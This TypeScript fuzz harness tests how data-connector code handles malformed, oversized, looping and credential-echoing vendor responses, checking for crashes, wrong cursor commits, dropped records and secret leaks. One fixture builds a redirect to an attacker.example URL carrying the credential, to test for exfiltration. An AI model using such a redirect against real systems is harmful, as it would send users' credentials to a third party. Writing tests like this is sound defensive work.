/**
 * Fuzzing of every connector's response handling. A fetch injected into the HTTP client serves
 * seeded answers in the vendor's envelope: pages whose records have missing fields, wrong types,
 * huge strings, deep nesting or odd unicode; bodies that are not JSON, wrong envelopes, error
 * statuses that echo the credential, the vendor's own in-band error shapes quoting it, redirects to another origin,
 * oversized bodies and pagination
 * loops. The real runner, cursor store and connector read them. Goals: the process never crashes,
 * the cursor never moves past a bad page, every record of a page it moves past is archived or
 * dead-lettered with a reason (never dropped), and the credential appears nowhere.
 */
import { createHash } from 'node:crypto';
import { parseSources, type Source } from '../../shared/config.ts';
import { CursorStore } from '../../shared/cursor-store.ts';
import { clientPerSource } from '../../shared/http.ts';
import { runSource, type RunResult } from '../../shared/runner.ts';
import type { FirehoseClient } from '@aws-sdk/client-firehose';
import { FIREHOSE_LIMITS, FirehoseSink, type Sink } from '../../shared/sink.ts';
import { optionSchemas } from '../../functions/registry.ts';
import { randomInt, seededRandom, type Random } from '../emulators/random.ts';
import { loadVendorLocals } from '../vendors.ts';
import { echoForms, type Answer, type FuzzRequest, type FuzzVendor } from './fuzz-pages.ts';
import { capturingLogger, emptyOutputs, scan, type Outputs } from './hygiene.ts';
import { CHAOS_EPOCH } from './run.ts';
import { CHAOS_TABLE, FakeClock, type ChaosWorld } from './world.ts';

/** The vendors the fuzzer fakes: every registered vendor's (functions/<vendor>/emulator/fuzz.ts). */
export const FUZZ_VENDORS: readonly FuzzVendor[] = [...(await loadVendorLocals()).values()].map((local) => local.fuzz);

/** The fuzzer's figures. */
export interface FuzzReport {
  cases: number;
  /** Cases where the run threw, or an exception or rejection escaped it. */
  crashes: number;
  /** Cases where the cursor was committed past a bad page. */
  wrongAdvances: number;
  /**
   * Records of a committed page that reached neither the archive nor the dead-letter (or were archived though invalid).
   */
  unaccounted: number;
  /** Pages with a valid envelope that the run refused: a bad record blocked the source. */
  blocked: number;
  /** Records holding a string that grows up to sixfold when escaped, around the record limit. */
  oversized: number;
  /** Cases whose vendor answered in its own error shape, quoting a credential. */
  echoes: number;
  leaks: string[];
  byKind: Record<string, number>;
  failures: string[];
}

/** Whether a record must be dead-lettered, must be archived, or may go either way. */
type Expect = 'reject' | 'archive' | 'any';
interface FuzzRecord {
  readonly text: string;
  readonly expect: Expect;
  readonly how: string;
}
/** One scripted answer; bad answers repeat for every later request (retries included). */
interface Step {
  readonly good: boolean;
  readonly records?: readonly FuzzRecord[];
  answer(request: FuzzRequest): Answer;
}

const KINDS = ['records', 'records', 'records', 'notJson', 'envelope', 'status', 'echo', 'loop', 'tooLarge'] as const;
const MAX_BYTES = 4 * 1024 * 1024;
const pick = <T>(random: Random, items: readonly T[]): T => items[randomInt(random, 0, items.length - 1)] as T;
/** Values of a type no required field takes. */
const WRONG_TYPES: readonly unknown[] = [true, null, { nested: { x: 1 } }, [1, 'a']];
/** Values of a plausible type that may or may not pass a field's schema. */
const ODD_VALUES: readonly unknown[] = [42, -1.5, '', 1e308, '0', 'not a time'];

/** A record text and what must become of it. */
function mutate(random: Random, fuzz: FuzzVendor, value: Record<string, unknown>): FuzzRecord {
  const present = fuzz.required.filter((f) => f in value);
  const field = pick(random, present.length ? present : ['id']);
  const roll = random();
  const copy = { ...value };
  if (roll < 0.3) return { text: JSON.stringify(value), expect: 'archive', how: 'valid' };
  if (roll < 0.42) {
    for (const f of present) delete copy[f];
    return { text: JSON.stringify(copy), expect: 'reject', how: 'missing' };
  }
  if (roll < 0.5)
    return {
      text: JSON.stringify({ ...copy, [field]: pick(random, WRONG_TYPES) }),
      expect: 'reject',
      how: 'wrongType',
    };
  if (roll < 0.56)
    return { text: JSON.stringify({ ...copy, [field]: pick(random, ODD_VALUES) }), expect: 'any', how: 'oddValue' };
  if (roll < 0.64)
    return { text: JSON.stringify(pick(random, [7, 'x', null, [1, 2], true, []])), expect: 'reject', how: 'notObject' };
  if (roll < 0.72)
    return { text: JSON.stringify({ ...copy, [field]: 'A'.repeat(1_050_000) }), expect: 'reject', how: 'hugeRequired' };
  if (roll < 0.78)
    return { text: JSON.stringify({ ...copy, fuzz_blob: 'é'.repeat(540_000) }), expect: 'reject', how: 'hugeJunk' };
  if (roll < 0.88) {
    const depth = randomInt(random, 100, 4000);
    return {
      text: `${JSON.stringify(copy).slice(0, -1)},"fuzz_deep":${'['.repeat(depth)}${']'.repeat(depth)}}`,
      expect: 'any',
      how: 'deep',
    };
  }
  if (roll < 0.94)
    return {
      text: JSON.stringify({ ...copy, 'fuzz\u0000key': '\ud800 \u202e 🧨 \\" </script>' }),
      expect: 'any',
      how: 'unicode',
    };
  if (roll < 0.97) {
    // A string that grows up to sixfold when escaped, around Firehose's 1,000 KiB record limit.
    const unit = pick(random, ['"', '\\', '\u0001', '\ud800', '😀']);
    return {
      text: JSON.stringify({
        ...copy,
        fuzz_escapes: unit.repeat(
          Math.floor(randomInt(random, 150_000, 1_100_000) / unit.length / (unit === '"' || unit === '\\' ? 2 : 6)),
        ),
      }),
      expect: 'any',
      how: 'oversized',
    };
  }
  const text = JSON.stringify(copy);
  return {
    text: `{${JSON.stringify(field)}:${JSON.stringify(pick(random, WRONG_TYPES))},${text.slice(1)}`,
    expect: 'any',
    how: 'dupKey',
  };
}

function validRecords(random: Random, fuzz: FuzzVendor, n: number, at: number): FuzzRecord[] {
  return fuzz
    .records(random, n, at)
    .map((r) => ({ text: JSON.stringify(r), expect: 'archive' as const, how: 'valid' }));
}

/** An answer that is not a page of this vendor's at all. */
function notJson(random: Random, fuzz: FuzzVendor, good: string): Answer {
  const bodies: Array<string | Uint8Array> = [
    '<html><body>502 Bad Gateway</body></html>',
    good.slice(0, randomInt(random, 0, Math.max(0, good.length - 2))),
    '',
    'null',
    '42',
    '"page"',
    `\ufeff${good}`,
    Uint8Array.from([0xff, 0xfe, 0x7b, 0x80, 0x22]),
    `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
    `${good}${good}`,
    `error: token ${Object.values(fuzz.credentials).join(' ')} refused`,
  ];
  return { status: 200, headers: { 'content-type': 'application/json' }, body: pick(random, bodies) };
}

function errorStatus(random: Random, fuzz: FuzzVendor): Answer {
  const secret = Object.values(fuzz.credentials).join('/');
  const status = pick(random, [400, 404, 409, 500, 502, 301, 302, 307, 429]);
  const headers: Record<string, string> =
    status >= 300 && status < 400
      ? { location: `http://attacker.example/collect?key=${encodeURIComponent(secret)}` }
      : status === 429
        ? { 'retry-after': '86400' }
        : {};
  return { status, headers, body: `{"error":"invalid credential ${secret}","echo":"Bearer ${secret}"}` };
}

/** The answers of one case, with the records of its good pages. */
function script(random: Random, fuzz: FuzzVendor, kind: (typeof KINDS)[number], at: number): Step[] {
  if (kind === 'records') {
    const records = fuzz.records(random, randomInt(random, 1, 6), at).map((r) => mutate(random, fuzz, r));
    return [
      {
        good: true,
        records,
        answer: (req) => ({
          status: 200,
          body: fuzz.page(
            records.map((r) => r.text),
            req,
          ),
        }),
      },
    ];
  }
  const lead =
    kind === 'loop' || random() < 0.5
      ? validRecords(random, fuzz, Math.max(fuzz.full ?? 1, randomInt(random, 1, 4)), at)
      : undefined;
  const steps: Step[] = lead
    ? [
        {
          good: true,
          records: lead,
          answer: (req) => ({
            status: 200,
            body: fuzz.page(
              lead.map((r) => r.text),
              req,
              true,
            ),
          }),
        },
      ]
    : [];
  // A loop needs a full page: a short one ends the window whatever its cursor says.
  const texts = validRecords(random, fuzz, kind === 'loop' ? (fuzz.full ?? 1) : randomInt(random, 1, 3), at).map(
    (r) => r.text,
  );
  const bad = (answer: (req: FuzzRequest) => Answer): Step[] => [...steps, { good: false, answer }];
  switch (kind) {
    case 'notJson':
      return bad((req) => notJson(random, fuzz, fuzz.page(texts, req)));
    case 'envelope':
      return bad(() => ({ status: 200, body: pick(random, fuzz.wrong(texts)) }));
    case 'status':
      return bad(() => errorStatus(random, fuzz));
    case 'echo': {
      // The vendor's own error shapes, quoting one of the credentials in one of the forms it may echo.
      const echo = pick(random, echoForms(pick(random, Object.values(fuzz.credentials))));
      return bad(() => pick(random, fuzz.echoes(echo)));
    }
    case 'tooLarge':
      return bad((req) => ({
        status: 200,
        body: fuzz.page([...texts, JSON.stringify({ pad: 'x'.repeat(MAX_BYTES) })], req),
      }));
    default:
      return bad((req) => ({ status: 200, body: fuzz.loop?.(texts, req) ?? pick(random, fuzz.wrong(texts)) }));
  }
}

/** The fetch the HTTP client uses: answers from the script, then "nothing more"; counts foreign requests. */
function fakeVendor(fuzz: FuzzVendor, steps: readonly Step[], origin: string, foreign: string[]): typeof fetch {
  let at = 0;
  return (async (input: string | URL | Request, init?: RequestInit) => {
    const url = new URL(input instanceof Request ? input.url : String(input));
    if (url.origin !== origin) foreign.push(url.origin);
    const request: FuzzRequest = { url, body: typeof init?.body === 'string' ? init.body : '' };
    const step = steps[at];
    if (step && step.good) at++;
    const answer = step ? step.answer(request) : { status: 200, body: fuzz.empty(request) };
    return new Response(answer.status >= 300 && answer.status < 400 ? null : answer.body, {
      status: answer.status,
      headers: answer.headers ?? {},
    });
  }) as typeof fetch;
}

/**
 * A Firehose sink (packing, as deployed) over a client that enforces PutRecordBatch's limits as the
 * service does (500 records, 4 MiB, 1,000 KiB a record: a call over them is refused whole) and keeps
 * each accepted event, packs split as the stream's deaggregation splits them.
 */
function limitSink(name: string, kept: string[], now: () => number): Sink {
  const client = {
    send: async (command: { input: { Records?: Array<{ Data?: Uint8Array }> } }) => {
      const records = (command.input.Records ?? []).map((r) => r.Data ?? new Uint8Array());
      const bytes = records.reduce((n, r) => n + r.byteLength, 0);
      if (
        records.length > FIREHOSE_LIMITS.maxBatchRecords ||
        bytes > FIREHOSE_LIMITS.maxBatchBytes ||
        records.some((r) => r.byteLength > FIREHOSE_LIMITS.maxRecordBytes)
      ) {
        throw Object.assign(new Error(`${records.length} records, ${bytes} bytes: over PutRecordBatch's limits`), {
          name: 'InvalidArgumentException',
        });
      }
      for (const r of records)
        kept.push(
          ...Buffer.from(r)
            .toString('utf8')
            .split('\n')
            .filter(Boolean)
            .map((line) => `${line}\n`),
        );
      return { FailedPutCount: 0, RequestResponses: records.map((_, i) => ({ RecordId: String(i) })) };
    },
  };
  return new FirehoseSink({ client: client as unknown as FirehoseClient, streamName: name, pack: true, now });
}

const sha = (text: string): string => createHash('sha256').update(text).digest('hex');

/** Checks the records of the good pages against what was archived and dead-lettered. */
function account(
  records: readonly FuzzRecord[],
  archived: readonly string[],
  dead: readonly string[],
  problems: string[],
): number {
  const rawArchived = new Set(archived.map((e) => (JSON.parse(e) as { raw_data: string }).raw_data));
  const entries = dead.map((e) => JSON.parse(e) as { raw_data: string; raw_sha256?: string; reason?: string });
  let wrong = 0;
  for (const record of records) {
    const letter = entries.find((d) => d.raw_data === record.text || d.raw_sha256 === sha(record.text));
    const kept = rawArchived.has(record.text);
    const fine =
      record.expect === 'reject'
        ? Boolean(letter?.reason) && !kept
        : record.expect === 'archive'
          ? kept
          : kept || Boolean(letter?.reason);
    if (!fine) {
      wrong++;
      problems.push(
        `${record.how} record (expected ${record.expect}): archived=${kept} dead-lettered=${Boolean(letter)} reason=${JSON.stringify(letter?.reason ?? '')}`,
      );
    }
  }
  return wrong;
}

/** A source of `fuzz`'s vendor, reading a fake vendor (its fetch answers every origin) from `startFrom`. */
export function sourceFor(fuzz: FuzzVendor, id: string, startFrom: number): Source {
  const raw = {
    id,
    vendor: fuzz.connector.vendor,
    baseUrl: 'http://127.0.0.1:9',
    credentials: fuzz.credentials,
    startFrom: new Date(startFrom).toISOString(),
    options: fuzz.options,
  };
  return parseSources({ sources: [raw] }, optionSchemas()).sources[0] as Source;
}

/** What a run against a fake vendor writes to and reads from, besides the vendor. */
export interface FakeRun {
  readonly store: CursorStore;
  readonly clock: FakeClock;
  /** The fake vendor. */
  readonly fetch: typeof globalThis.fetch;
  /** Where the run's log lines go. */
  readonly logs: string[];
  readonly owner: string;
  readonly sink: Sink;
  readonly deadLetter: Sink;
  /** HTTP client options beyond the fake vendor and the fake clock. */
  readonly http?: { readonly random?: Random; readonly maxResponseBytes?: number; readonly maxAttempts?: number };
}

/** One run of `source` against a fake vendor, on the fake clock, with the source's inline credentials. */
export function runOnFake(fuzz: FuzzVendor, source: Source, run: FakeRun): Promise<RunResult> {
  const { clock } = run;
  return runSource(fuzz.connector, source, {
    store: run.store,
    sink: run.sink,
    deadLetter: run.deadLetter,
    owner: run.owner,
    leaseMs: 60_000,
    deadline: clock.now() + 600_000,
    now: clock.now,
    log: capturingLogger(run.logs),
    credentials: { get: async (s) => s.credentials ?? {} },
    http: clientPerSource({ fetch: run.fetch, now: clock.now, sleep: clock.sleep, ...run.http }),
  });
}

/** Runs one case; adds its findings to `report`. */
async function fuzzCase(world: ChaosWorld, seed: number, report: FuzzReport, outputs: Outputs): Promise<void> {
  const random = seededRandom(seed ^ 0xf022);
  const fuzz = pick(random, FUZZ_VENDORS);
  const kind = pick(random, KINDS);
  const clock = new FakeClock(CHAOS_EPOCH);
  const source = sourceFor(fuzz, `fuzz-${(seed >>> 0).toString(36)}-${report.cases}`, clock.now() - 2 * 3_600_000);
  const steps = script(random, fuzz, kind, clock.now() - 3_600_000);
  const foreign: string[] = [];
  const fetch = fakeVendor(fuzz, steps, new URL(source.baseUrl).origin, foreign);
  const [archived, dead] = [[] as string[], [] as string[]];
  const store = new CursorStore({ client: world.client, tableName: CHAOS_TABLE, now: clock.now });
  const problems: string[] = [];
  let result: RunResult | undefined;
  try {
    result = await runOnFake(fuzz, source, {
      store,
      clock,
      fetch,
      logs: outputs.logs,
      owner: 'fuzz',
      sink: limitSink('archive', archived, clock.now),
      deadLetter: limitSink('dlq', dead, clock.now),
      http: { random, maxResponseBytes: MAX_BYTES },
    });
  } catch (error) {
    report.crashes++;
    problems.push(`runSource threw: ${String(error).slice(0, 200)}`);
  }
  if (result?.error) outputs.errors.push(result.error);
  outputs.archive.push(...archived, ...dead);
  const commits = (await store.get(source.id))?.version ?? 0;
  const goodBefore = steps.findIndex((s) => !s.good);
  if (foreign.length) problems.push(`requests to another origin: ${foreign.join(', ')}`);
  if (goodBefore >= 0 && commits > goodBefore) {
    report.wrongAdvances++;
    problems.push(`cursor committed ${commits} times, past the bad answer at step ${goodBefore + 1}`);
  }
  if (goodBefore < 0 && result && result.status !== 'caught-up') {
    report.blocked++;
    problems.push(`a page with a valid envelope was refused: ${result.status} ${result.error ?? ''}`.slice(0, 300));
  }
  if (commits > 0)
    report.unaccounted += account(
      steps.filter((s) => s.good).flatMap((s) => s.records ?? []),
      archived,
      dead,
      problems,
    );
  report.cases++;
  report.oversized += steps.flatMap((s) => s.records ?? []).filter((r) => r.how === 'oversized').length;
  if (kind === 'echo') report.echoes++;
  report.byKind[`${fuzz.connector.vendor}:${kind}`] = (report.byKind[`${fuzz.connector.vendor}:${kind}`] ?? 0) + 1;
  if (problems.length) report.failures.push(`seed ${seed} ${fuzz.connector.vendor} ${kind}: ${problems.join('; ')}`);
}

/** `cases` fuzz cases with seeds `seed`, `seed + 1`, ...; every output is scanned for the credentials. */
export async function fuzz(world: ChaosWorld, seed: number, cases: number): Promise<FuzzReport> {
  const report: FuzzReport = {
    cases: 0,
    crashes: 0,
    wrongAdvances: 0,
    unaccounted: 0,
    blocked: 0,
    oversized: 0,
    echoes: 0,
    leaks: [],
    byKind: {},
    failures: [],
  };
  const escaped: unknown[] = [];
  const onEscape = (error: unknown): void => void escaped.push(error);
  process.on('unhandledRejection', onEscape);
  process.on('uncaughtException', onEscape);
  try {
    for (let i = 0; i < cases; i++) {
      const outputs = emptyOutputs();
      const before = escaped.length;
      await fuzzCase(world, seed + i, report, outputs);
      if (escaped.length > before) {
        report.crashes++;
        report.failures.push(`seed ${seed + i}: escaped: ${String(escaped.at(-1)).slice(0, 200)}`);
      }
      report.leaks.push(
        ...scan(
          outputs,
          FUZZ_VENDORS.flatMap((f) => Object.values(f.credentials)),
        ).map((l) => `seed ${seed + i}: ${l}`),
      );
    }
  } finally {
    process.off('unhandledRejection', onEscape);
    process.off('uncaughtException', onEscape);
  }
  return report;
}
